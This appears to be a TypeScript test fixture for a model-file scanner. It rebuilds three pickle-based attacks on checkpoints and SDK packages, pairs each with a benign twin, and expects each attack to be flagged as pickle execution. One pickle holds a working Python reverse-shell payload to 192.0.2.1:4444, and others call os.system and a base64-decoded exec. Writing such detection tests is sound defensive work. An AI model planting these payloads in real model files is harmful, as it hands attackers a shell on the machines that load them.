// Attacks through models and what loads them.
import { assemble } from '../support/pickle-assembler.ts';
import { buildSevenZip } from '../support/seven-zip-builder.ts';
import { buildZip } from '../support/zip-builder.ts';
import { lines, type Replay } from './replay.ts';

/** A dictionary with one list of numbers. */
const WEIGHTS = assemble([
  'PROTO 2',
  'EMPTY_DICT',
  'BINUNICODE "w"',
  'EMPTY_LIST',
  'MARK',
  'BININT1 1',
  'BININT1 2',
  'APPENDS',
  'SETITEM',
  'STOP',
]);

/** A program that runs while the pickle is read; what follows it cannot be read. */
const BROKEN = assemble([
  'PROTO 2',
  'GLOBAL os system',
  'BINUNICODE "echo inert"',
  'TUPLE1',
  'REDUCE',
  'BINUNICODE @2147483647 "broken"',
]);

const SHELL = assemble([
  'PROTO 4',
  'GLOBAL builtins exec',
  "BINUNICODE \"import socket, os, pty; s = socket.create_connection(('192.0.2.1', 4444)); [os.dup2(s.fileno(), n) for n in (0, 1, 2)]; pty.spawn('/bin/sh')\"",
  'TUPLE1',
  'REDUCE',
  'STOP',
]);

const ENCODED = Buffer.from('print("inert")').toString('base64');
const DECODED = assemble([
  'PROTO 4',
  'GLOBAL builtins exec',
  `BINUNICODE "import base64; exec(base64.b64decode('${ENCODED}'))"`,
  'TUPLE1',
  'REDUCE',
  'STOP',
]);

const torch = (data: Uint8Array): Buffer =>
  buildZip([
    { name: 'archive/data.pkl', data },
    { name: 'archive/version', data: '3\n' },
  ]);
const seven = (data: Uint8Array): Buffer => buildSevenZip([{ name: 'archive/data.pkl', data }]);

const SDK = (flag: string): string =>
  lines(
    'import os, torch',
    `MODEL = torch.load(os.path.join(os.path.dirname(__file__), "model.pt"), weights_only=${flag})`,
  );

export const MODELS: readonly Replay[] = [
  {
    name: 'baller423, February 2024: a checkpoint that opens a shell to an address while it is loaded',
    base: { 'README.md': '# A model\n' },
    attack: { 'pytorch_model.bin': torch(SHELL) },
    because: ['CRITICAL PICKLE-EXEC'],
    twin: { 'pytorch_model.bin': torch(WEIGHTS) },
  },
  {
    name: 'nullifAI, February 2025: a pickle that breaks off after its payload, in a 7z under the name of a checkpoint',
    base: { 'README.md': '# A model\n' },
    attack: { 'pytorch_model.pt': seven(BROKEN) },
    because: ['CRITICAL PICKLE-EXEC'],
    twin: { 'pytorch_model.pt': seven(WEIGHTS) },
  },
  {
    name: 'the fake SDKs of May 2025: a checkpoint in the package, unpickled by its import',
    base: {
      'setup.py': 'from setuptools import setup\nsetup(name="sdk", package_data={"sdk": ["model.pt"]})\n',
    },
    attack: { 'sdk/__init__.py': SDK('False'), 'sdk/model.pt': torch(DECODED) },
    because: ['CRITICAL PICKLE-EXEC'],
    twin: { 'sdk/__init__.py': SDK('True'), 'sdk/model.pt': torch(WEIGHTS) },
  },
];
